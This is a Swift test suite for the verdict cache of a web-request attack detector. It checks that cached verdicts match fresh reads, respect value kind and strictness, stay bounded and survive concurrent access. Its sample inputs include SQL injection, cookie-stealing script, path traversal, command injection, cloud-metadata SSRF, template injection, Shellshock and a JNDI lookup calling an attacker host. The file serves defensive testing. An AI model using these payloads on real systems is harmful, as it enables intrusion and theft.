import BulwarkTesting
import HTTPTypes
import Testing

@_spi(Benchmarking) @testable import Bulwark

/// The verdict cache must be invisible: a value's verdict is the same whether it was read now or
/// remembered, whatever else shares its slot, wherever the value came from and at either level.
@Suite("Shield's verdict cache")
struct ShieldVerdictCacheTests {
    /// Attacks of several families and ordinary values, all within the cached lengths.
    static let values: [String] = [
        "1' union select username, password from users--", "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd", "; cat /etc/hosts", "http://169.254.169.254/latest/meta-data/",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "${jndi:ldap://evil.example/a}",
        "() { :; }; /bin/bash -c id", "x%0d%0aSet-Cookie: admin=1", "*)(uid=*))(|(uid=*", "..%2Fsecret.txt",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0 Safari/537.36",
        "https://console.example.com/vpc/flowlog/dashboard?rid=9", "O'Brien and rock'n'roll", "select all items",
        "GA1.2.1234567890.1688377577", "C:\\Program Files\\App", "Tom & Jerry | Cartoons", "price >= 10 and <= 20",
        "time ifconfig", "http://127.0.0.1:8080/admin/users",
    ]

    static func read(_ value: [UInt8], kind: Shield.ValueKind = .value, strict: Bool = false) -> [ShieldAttack] {
        Shield.detect(value, kind: kind, strict: strict)
    }

    @Test("a remembered verdict is the one reading gives, including when values share a slot")
    func remembered() {
        // two slots in all: most values collide, so each lookup also tests the byte-for-byte check
        let cache = ShieldVerdictCache(shards: 1, slotsPerShard: 2)
        #expect(cache.capacity == 2)
        for round in 0..<3 {
            for value in Self.values {
                let bytes = Array(value.utf8)
                let verdict = cache.verdict(bytes, kind: .value, strict: false) { Self.read(bytes) }
                #expect(verdict == Self.read(bytes), "round \(round): \(value)")
            }
        }
        #expect(cache.count <= 2)
    }

    @Test("the kind of value and the level are part of what is remembered")
    func keyed() {
        let cache = ShieldVerdictCache(shards: 1, slotsPerShard: 1)
        let url = Array("http://127.0.0.1:8080/admin/users".utf8)
        // In a Referer an internal URL is normal; in an argument it is a forgery.
        #expect(cache.verdict(url, kind: .header, strict: false) { Self.read(url, kind: .header) }.isEmpty)
        #expect(
            cache.verdict(url, kind: .value, strict: false) { Self.read(url) } == [.serverSideRequestForgery]
        )
        let climb = Array("..%2Fsecret.txt".utf8)
        #expect(cache.verdict(climb, kind: .value, strict: false) { Self.read(climb) }.isEmpty)
        #expect(!cache.verdict(climb, kind: .value, strict: true) { Self.read(climb, strict: true) }.isEmpty)
    }

    @Test("through Shield: a header's verdict does not leak into an argument, nor standard into strict")
    func throughShield() {
        let shield = Shield()
        var headers = HTTPFields()
        headers[HTTPField.Name("referer")!] = "http://127.0.0.1:8080/admin/users"
        #expect(shield.inspect(BulwarkRequest(path: "/", headers: headers)).isEmpty)
        let request = BulwarkRequest.get("/fetch?url=http://127.0.0.1:8080/admin/users")
        #expect(shield.inspect(request) == [ShieldFinding(attack: .serverSideRequestForgery, location: "query.url")])
        // the same request again: now remembered, the same findings
        #expect(shield.inspect(request) == [ShieldFinding(attack: .serverSideRequestForgery, location: "query.url")])
        let climb = BulwarkRequest.get("/file?name=..%2Fsecret.txt")
        #expect(shield.inspect(climb).isEmpty)
        #expect(!Shield(sensitivity: .strict).inspect(climb).isEmpty)
    }

    @Test("values too short or too long to remember are read every time")
    func bounds() {
        let cache = ShieldVerdictCache(shards: 4, slotsPerShard: 4)
        let short = Array("1'--".utf8)
        let long = Array(String(repeating: "a b ", count: 200).utf8) + Array("' or 1=1--".utf8)
        var reads = 0
        for _ in 0..<3 {
            _ = cache.verdict(short, kind: .value, strict: false) {
                reads += 1
                return Self.read(short)
            }
            _ = cache.verdict(long, kind: .value, strict: false) {
                reads += 1
                return Self.read(long)
            }
        }
        #expect(reads == 6)
        #expect(cache.count == 0)
        let kept = Array("1' union select 1--".utf8)
        for _ in 0..<3 {
            _ = cache.verdict(kept, kind: .value, strict: false) {
                reads += 1
                return Self.read(kept)
            }
        }
        #expect(reads == 7)
        #expect(cache.count == 1)
    }

    @Test("a flood of new values never grows the cache past its slots")
    func flood() {
        let cache = ShieldVerdictCache(shards: 4, slotsPerShard: 8)
        var reads = 0
        for number in 0..<5_000 {
            // what is remembered is not under test here: only how many values are
            _ = cache.verdict(Array("value number \(number)".utf8), kind: .value, strict: false) {
                reads += 1
                return []
            }
        }
        #expect(reads == 5_000)
        #expect(cache.count <= cache.capacity)
        #expect(cache.capacity == 32)
        cache.removeAll()
        #expect(cache.count == 0)
    }

    @Test("threads reading and replacing the same slots at once each get the verdict reading gives")
    func concurrent() async throws {
        // 4 slots for 42 keys: every lookup races another thread's replacement of its slot. Each
        // reader is a thread of its own (`onOwnThread`), not a task: seconds of reading on Swift's
        // two shared threads would stall the tests that time an `await`.
        let cache = ShieldVerdictCache(shards: 2, slotsPerShard: 2)
        let inputs = Self.values.flatMap { value in
            [(Array(value.utf8), false), (Array(value.utf8), true)]
        }
        let expected = inputs.map { Self.read($0.0, strict: $0.1) }
        let mismatches = try await withThrowingTaskGroup(of: Int.self) { group in
            for thread in 0..<8 {
                group.addTask {
                    try await onOwnThread {
                        var mismatches = 0
                        for round in 0..<20 {
                            for offset in inputs.indices {
                                let index = (offset + thread * 5 + round) % inputs.count
                                let (bytes, strict) = inputs[index]
                                let verdict = cache.verdict(bytes, kind: .value, strict: strict) {
                                    Self.read(bytes, strict: strict)
                                }
                                if verdict != expected[index] { mismatches += 1 }
                            }
                        }
                        return mismatches
                    }
                }
            }
            return try await group.reduce(0, +)
        }
        #expect(mismatches == 0)
        #expect(cache.count <= cache.capacity)
    }
}
